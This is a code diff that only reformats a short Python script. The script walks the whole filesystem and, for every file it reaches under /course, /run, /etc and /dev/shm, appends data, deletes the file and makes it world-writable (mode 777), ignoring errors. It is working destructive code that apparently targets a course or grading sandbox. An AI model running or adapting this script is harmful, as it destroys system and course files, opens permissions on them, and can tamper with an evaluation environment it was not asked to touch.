@@ -1,4 +1,6 @@
-"""Writes a file of its own into every folder, and over every file of the course, that it can reach."""
+"""Writes a file of its own into every folder, and over every file of the course, that it can
+reach.
+"""
 
 # %%
 import os
@@ -11,7 +13,11 @@ for folder, folders, names in os.walk("/"):
         pass
     if folder.startswith(("/course", "/run", "/etc", "/dev/shm")):
         for name in names:
-            for action in (lambda path: open(path, "a").write(" "), os.unlink, lambda path: os.chmod(path, 0o777)):
+            for action in (
+                lambda path: open(path, "a").write(" "),
+                os.unlink,
+                lambda path: os.chmod(path, 0o777),
+            ):
                 try:
                     action(os.path.join(folder, name))
                 except OSError:
